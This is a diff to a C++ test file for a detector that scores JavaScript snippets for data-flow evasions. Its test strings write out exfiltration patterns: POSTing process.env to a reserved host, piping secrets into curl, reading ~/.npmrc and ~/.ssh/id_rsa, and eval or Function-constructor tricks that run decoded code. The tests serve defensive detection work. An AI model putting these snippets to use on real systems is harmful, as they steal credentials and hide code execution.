@@ -1,12 +1,11 @@
 // Ways that hide a flow from a reader, each with the same file where the flow is cut. Hosts are reserved names.
-#include "judges/vet/flow/flow.h"
-
 #include <string>
 #include <utility>
 #include <vector>
 
 #include <gtest/gtest.h>
 
+#include "judges/vet/flow/flow.h"
 #include "judges/vet/flow/flow_fixture.h"
 
 namespace ward::vet {
@@ -36,19 +35,24 @@ TEST(FlowEvasions, SecretsTakeAWayRound) {
     const std::string send = "fetch('https://collect.invalid', { method: 'POST', body: x })";
     check_ways(
         {
-            {"async generator", "async function* g() { yield SOURCE }\n(async () => { for await (const x of g()) " + send + " })()"},
+            {"async generator",
+             "async function* g() { yield SOURCE }\n(async () => { for await (const x of g()) " + send + " })()"},
             {"next of a generator", "function* g() { yield SOURCE }\nconst x = g().next().value; " + send},
             {"values of a tagged template", "const t = (s, ...v) => { const x = v[0]; " + send + " };\nt`a${SOURCE}b`"},
             {"what is thrown", "try { throw SOURCE } catch (x) { " + send + " }"},
-            {"an emitter", "const e = new (require('events'))();\ne.on('x', (x) => " + send + ");\ne.emit('x', SOURCE)"},
+            {"an emitter",
+             "const e = new (require('events'))();\ne.on('x', (x) => " + send + ");\ne.emit('x', SOURCE)"},
             {"an emitter's class",
              "class E extends require('events').EventEmitter {}\nconst e = new E();\ne.on('x', (x) => " + send +
                  ");\ne.emit('x', SOURCE)"},
             {"bound arguments", "const f = ((x) => " + send + ").bind(null, SOURCE);\nf()"},
             {"a timer's argument", "setTimeout((x) => " + send + ", 1, SOURCE)"},
             {"Reflect.get", "const x = Reflect.get({ a: SOURCE }, 'a');\n" + send},
-            {"http2", "const s = require('http2').connect('https://h.invalid');\nconst r = s.request({ ':path': '/' });\nr.end(SOURCE)"},
-            {"the input of curl", "require('child_process').execSync('curl -d @- https://h.invalid', { input: SOURCE })"},
+            {"http2",
+             "const s = require('http2').connect('https://h.invalid');\nconst r = s.request({ ':path': '/' "
+             "});\nr.end(SOURCE)"},
+            {"the input of curl",
+             "require('child_process').execSync('curl -d @- https://h.invalid', { input: SOURCE })"},
             {"a proxy", "const x = JSON.stringify(new Proxy({ a: SOURCE }, {}));\n" + send},
         },
         "JSON.stringify(process.env)", "JSON.stringify({})", "S03", 4);
@@ -61,9 +65,12 @@ TEST(FlowEvasions, CommandsPrintSecrets) {
                 {"a callback", cp + "cp.exec(SOURCE, (e, x) => " + send + ")"},
                 {"standard output", cp + "const x = cp.spawnSync(SOURCE).stdout;\n" + send}},
                "'printenv'", "'date'", "S03", 4);
-    check_ways({{"a file", cp + "const x = cp.execSync(SOURCE);\n" + send}}, "'cat ~/.npmrc'", "'cat ~/notes'", "S03", 4);
-    check_ways({{"a file's descriptor", "const fs = require('fs');\nconst fd = fs.openSync(SOURCE);\n"
-                                        "const x = Buffer.alloc(99);\nfs.readSync(fd, x);\n" + send}},
+    check_ways({{"a file", cp + "const x = cp.execSync(SOURCE);\n" + send}}, "'cat ~/.npmrc'", "'cat ~/notes'", "S03",
+               4);
+    check_ways({{"a file's descriptor",
+                 "const fs = require('fs');\nconst fd = fs.openSync(SOURCE);\n"
+                 "const x = Buffer.alloc(99);\nfs.readSync(fd, x);\n" +
+                     send}},
                "home + '/.ssh/id_rsa'", "home + '/notes'", "S03", 4);
 }
 
@@ -73,8 +80,8 @@ TEST(FlowEvasions, VariablesOneByOne) {
                 {"entries", "let x = '';\nfor (const [k, v] of Object.entries(SOURCE)) x += k + v;\n" + send},
                 {"keys", "const x = Object.keys(SOURCE).map((k) => process.env[k]).join();\n" + send}},
                "process.env", "{}", "S03", 1.5);
-    check_ways({{"a list of keys", "const x = [SOURCE].map((k) => process.env[k]).join();\n" + send}},
-               "'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'", "'HOME', 'PATH'", "S03", 4);
+    // A helper that is asked for each of them by name tells nothing of who gets which.
+    EXPECT_LT(heaviest("const get = (k) => process.env[k];\nconst x = get('A_TOKEN');\nget('B_TOKEN');\n" + send, "S03"), 1);
 }
 
 TEST(FlowEvasions, DecodedCodeTakesAWayRound) {
@@ -83,7 +90,8 @@ TEST(FlowEvasions, DecodedCodeTakesAWayRound) {
             {"by a sequence", "(0, eval)(SOURCE)"},
             {"by a computed name", "globalThis['ev' + 'al'](SOURCE)"},
             {"by a constructor's constructor", "[].constructor.constructor(SOURCE)()"},
-            {"by a function's constructor", "const A = Object.getPrototypeOf(async function () {}).constructor;\nnew A(SOURCE)()"},
+            {"by a function's constructor",
+             "const A = Object.getPrototypeOf(async function () {}).constructor;\nnew A(SOURCE)()"},
             {"by Reflect", "Reflect.construct(Function, [SOURCE])()"},
             {"Function.constructor", "new Function.constructor('a', SOURCE)()"},
             {"a tagged Function", "Function`a${SOURCE}`()"},
@@ -91,9 +99,11 @@ TEST(FlowEvasions, DecodedCodeTakesAWayRound) {
             {"a shell's input", "require('child_process').execSync('sh', { input: SOURCE })"},
         },
         "atob(data)", "'alert(1)'", "S04", 4);
-    check_ways({{"a file that is required", "const fs = require('fs');\nfs.writeFileSync('/tmp/x.js', SOURCE);\nrequire('/tmp/x.js')"},
-                {"a file that is run", "const fs = require('fs');\nfs.writeFileSync('/tmp/x', SOURCE);\n"
-                                       "require('child_process').execFile('/tmp/x')"}},
+    check_ways({{"a file that is required",
+                 "const fs = require('fs');\nfs.writeFileSync('/tmp/x.js', SOURCE);\nrequire('/tmp/x.js')"},
+                {"a file that is run",
+                 "const fs = require('fs');\nfs.writeFileSync('/tmp/x', SOURCE);\n"
+                 "require('child_process').execFile('/tmp/x')"}},
                "Buffer.from(data, 'base64')", "text", "S04", 2.5);
     EXPECT_EQ(heaviest("eval(new TextDecoder().decode(new Uint8Array([97, 108, 101, 114, 116, 40, 41])))", "S04"), 4);
     EXPECT_EQ(heaviest("show(new TextDecoder().decode(new Uint8Array([97, 108, 101, 114, 116, 40, 41])))", "S04"), -1);
